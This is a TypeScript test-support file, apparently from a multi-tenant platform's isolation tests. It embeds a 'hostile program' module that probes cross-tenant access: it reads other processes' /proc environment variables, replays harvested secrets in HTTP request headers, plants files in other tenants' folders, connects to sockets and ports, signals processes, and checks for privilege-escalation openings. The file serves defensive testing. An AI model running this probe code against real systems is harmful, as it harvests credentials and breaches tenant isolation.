// Hostile program: what somebody with a shell in one tenant tries against another tenant and the platform. It runs inside an
// agent and writes down what it reached.

/** By name: what is tried; true when it was reached. */
export type Reached = Record<string, boolean>;

export interface HostileTargets {
  /** Files and folders to read. */
  read: Record<string, string>;
  /** Folders to put a file into. */
  write: Record<string, string>;
  /** Unix sockets to connect to. */
  sockets: Record<string, string>;
  /** `host:port` to connect to. */
  ports: Record<string, string>;
  /** Processes to look at and to signal. */
  pids: Record<string, number>;
  /** Requests; `ok` when the answer is 2xx. `$NAME` in a header is read from the environment of the tenant's server. */
  requests: Record<string, { url: string; headers: Record<string, string> }>;
}

/** An ES module; its one argument is a JSON file with the targets, and it prints what it found as base64. */
export const HOSTILE_PROGRAM = `// What a hostile administrator would run.
import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';

const targets = JSON.parse(readFileSync(process.argv[2], 'utf8'));
const found = {};
const attempt = async (name, act) => {
  try { found[name] = (await act()) !== false; } catch { found[name] = false; }
};
const reach = (where) => new Promise((done) => {
  const socket = connect(where);
  const end = (is) => { socket.destroy(); done(is); };
  socket.setTimeout(3000, () => end(false));
  socket.on('connect', () => end(true)).on('error', () => end(false));
});
const environments = readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).map((pid) => {
  try { return readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0'); } catch { return []; }
});
const variable = (name) => environments.flat().find((entry) => entry.startsWith(name + '='))?.slice(name.length + 1);
const send = ({ url, headers }) => new Promise((done) => {
  const filled = Object.fromEntries(Object.entries(headers).map(([name, text]) =>
    [name, text.replace(/\\$([A-Z_]+)/g, (_, key) => variable(key) ?? '')]));
  const call = request(url, { headers: filled, timeout: 5000 }, (answer) => {
    answer.resume();
    done(answer.statusCode < 300);
  });
  call.on('timeout', () => call.destroy()).on('error', () => done(false)).end();
});

for (const [name, path] of Object.entries(targets.read))
  await attempt('read ' + name, () => { statSync(path).isDirectory() ? readdirSync(path) : readFileSync(path); });
for (const [name, path] of Object.entries(targets.write))
  await attempt('write ' + name, () => writeFileSync(path + '/planted-by-a-stranger', 'x'));
for (const [name, path] of Object.entries(targets.sockets)) await attempt('socket ' + name, () => reach({ path }));
for (const [name, at] of Object.entries(targets.ports)) {
  const [host, port] = at.split(':');
  await attempt('port ' + name, () => reach({ host, port: Number(port) }));
}
for (const [name, pid] of Object.entries(targets.pids)) {
  await attempt('see ' + name, () => statSync('/proc/' + pid));
  await attempt('environment of ' + name, () => readFileSync('/proc/' + pid + '/environ'));
  await attempt('files of ' + name, () => readdirSync('/proc/' + pid + '/root'));
  await attempt('signal ' + name, () => process.kill(pid, 0));
}
for (const [name, call] of Object.entries(targets.requests)) await attempt('request ' + name, () => send(call));
const status = readFileSync('/proc/self/status', 'utf8');
found['gain rights by a program'] = !/NoNewPrivs:\\s*1/.test(status) || !/CapBnd:\\s*0+\\n/.test(status);
console.log('FOUND<' + Buffer.from(JSON.stringify(found)).toString('base64') + '>');
`;
